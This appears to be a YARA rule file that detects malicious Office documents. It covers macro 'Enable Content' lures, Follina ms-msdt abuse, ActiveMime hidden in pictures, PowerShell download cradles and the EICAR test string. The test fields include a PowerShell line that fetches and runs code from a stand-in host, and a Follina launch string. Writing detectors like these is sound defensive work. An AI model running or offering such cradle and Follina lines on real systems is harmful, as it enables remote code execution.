// Signatures over documents and over what stands in for them. What each key of a meta section is for: docs/rules.md.

rule lure_enable_content
{
    meta:
        id = "lure-enable-content"
        title = "The text of the document asks its reader to let the macros run"
        why = "Told beside the macro it belongs to: with nothing to enable such a sentence is help text, so alone it is only noted."
        reference = "https://attack.mitre.org/techniques/T1204/002/"
        verdict = "clean"
        test_as = "macro-document"
        test = "<w:t>To view this document please click Enable Content</w:t>"
    strings:
        $en1 = "enable content" nocase ascii wide
        $en2 = "enable editing" nocase ascii wide
        $en3 = "enable macros" nocase ascii wide
        $de1 = "Inhalt aktivieren" nocase ascii wide
        $de2 = "Inhalte aktivieren" nocase ascii wide
        $de3 = "Bearbeitung aktivieren" nocase ascii wide
        $fr1 = "activer le contenu" nocase ascii wide
        $fr2 = "activer la modification" nocase ascii wide
        $es1 = "habilitar contenido" nocase ascii wide
        $es2 = "habilitar edici" nocase ascii wide
        $pt1 = "habilitar conte" nocase ascii wide
        $it1 = "abilita contenuto" nocase ascii wide
        $it2 = "abilita modifica" nocase ascii wide
        $nl1 = "inhoud inschakelen" nocase ascii wide
        $pl1 = "w\xc5\x82\xc4\x85cz zawarto\xc5\x9b\xc4\x87" // UTF-8
        $ja1 = "\xe3\x82\xb3\xe3\x83\xb3\xe3\x83\x86\xe3\x83\xb3\xe3\x83\x84\xe3\x81\xae\xe6\x9c\x89\xe5\x8a\xb9\xe5\x8c\x96" // UTF-8
        $ja2 = { B3 30 F3 30 C6 30 F3 30 C4 30 6E 30 09 67 B9 52 16 53 } // UTF-16
        $ru1 = "\xd0\xb2\xd0\xba\xd0\xbb\xd1\x8e\xd1\x87\xd0\xb8\xd1\x82\xd1\x8c \xd1\x81\xd0\xbe\xd0\xb4\xd0\xb5\xd1\x80\xd0\xb6\xd0\xb8\xd0\xbc\xd0\xbe\xd0\xb5" // UTF-8
        $ru2 = { 32 04 3A 04 3B 04 4E 04 47 04 38 04 42 04 4C 04 20 00 41 04 3E 04 34 04 35 04 40 04 36 04 38 04 3C 04 3E 04 35 04 } // UTF-16
    condition:
        (filetype == "macro-document" or filetype == "doc" or filetype == "xls" or filetype == "docm" or filetype == "xlsm")
        and any of them
}

rule follina
{
    meta:
        id = "follina"
        title = "Starts the support diagnostic tool with commands of its own (CVE-2022-30190)"
        why = "The address ms-msdt: has no honest use in a document or script. Pages are looked at for it without a rule."
        reference = "https://nvd.nist.gov/vuln/detail/CVE-2022-30190"
        test_as = "script"
        test = "location.href = \"ms-msdt:/id PCWDiagnostic /skip force /param \\\"IT_RebrowseForFile=x\""
    strings:
        $scheme = "ms-msdt:" nocase ascii wide
        $tool = "PCWDiagnostic" nocase ascii wide
        $argument = "IT_RebrowseForFile" nocase ascii wide
        $argument2 = "IT_LaunchMethod" nocase ascii wide
    condition:
        (filetype == "rtf" or filetype == "script" or filetype == "vba" or filetype == "macro-document" or filetype == "lnk")
        and $scheme and ($tool or any of ($argument*))
}

rule activemime_in_picture
{
    meta:
        id = "activemime-in-picture"
        title = "Holds a macro container of Word behind the beginning of another kind of file"
        why = "An ActiveMime container under the name and the beginning of a picture or a PDF: Word finds the macros in it, other programs see a picture."
        reference = "https://blogs.jpcert.or.jp/en/2023/08/maldocinpdf.html"
        verdict = "unscannable"
        test_as = "image"
        test = "\xff\xd8\xff\xe0\x00\x10JFIF\x00ActiveMime\x00\x00\x01\xf0\x04\x00\x00\x00x\x9c"
    strings:
        $container = "ActiveMime\x00\x00\x01\xf0"
    condition:
        filetype == "image" and $container
}

rule powershell_cradle
{
    meta:
        id = "powershell-cradle"
        title = "Fetches code from the net and runs it with PowerShell"
        why = "The usual first line of an attack by shortcut, script or macro."
        reference = "https://attack.mitre.org/techniques/T1059/001/"
        test_as = "script"
        test = "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')\""
    strings:
        $client = "Net.WebClient" nocase ascii wide
        $web1 = "Invoke-WebRequest" nocase ascii wide
        $web2 = "Invoke-RestMethod" nocase ascii wide
        $fetch = /\.Download(String|Data|File)\s{0,2}\(/ nocase ascii wide
        $run1 = "IEX (" nocase ascii wide
        $run5 = "IEX(" nocase ascii wide
        $run6 = "|IEX" nocase ascii wide
        $run7 = "| IEX" nocase ascii wide
        $run2 = "Invoke-Expression" nocase ascii wide
        $run3 = "Start-Process" nocase ascii wide
        $run4 = "[Reflection.Assembly]::Load" nocase ascii wide
        $name = "powershell" nocase ascii wide
    condition:
        (filetype == "script" or filetype == "lnk" or filetype == "vba" or filetype == "xlm" or filetype == "ole" or filetype == "doc" or filetype == "xls")
        and (($client and $fetch) or any of ($web*)) and any of ($run*) and ($name or filetype == "script")
}

rule eicar
{
    meta:
        id = "eicar"
        title = "Holds EICAR's test text"
        why = "The harmless file with which a chain of filters is tested; in a document it shows that YARA rules reach inside."
        reference = "https://www.eicar.org/download-anti-malware-testfile/"
        test = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR\x2dSTANDARD\x2dANTIVIRUS\x2dTEST\x2dFILE!$H+H*"
        test_as = "executable"
    strings:
        $text = { 58 35 4F 21 50 25 40 41 50 5B 34 5C 50 5A 58 35 34 28 50 5E 29 37 43 43 29 37 7D 24 45 49 43 41 52 }
    condition:
        (filetype == "executable" and filesize < 200 or filetype == "vba") and $text
}
